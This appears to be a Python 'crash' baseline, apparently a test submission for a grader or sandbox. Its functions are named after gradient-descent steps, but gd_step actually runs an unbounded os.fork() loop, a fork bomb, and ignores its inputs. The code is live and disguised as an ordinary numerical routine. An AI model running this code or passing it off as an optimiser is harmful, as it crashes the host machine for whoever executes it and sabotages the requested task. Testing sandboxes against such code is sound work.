# BASELINE: crash
import os


def gd_step(dL, w, eta):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def gd_trajectory(dL, w0, eta, n_steps):
    gd_step(dL, w0, eta)
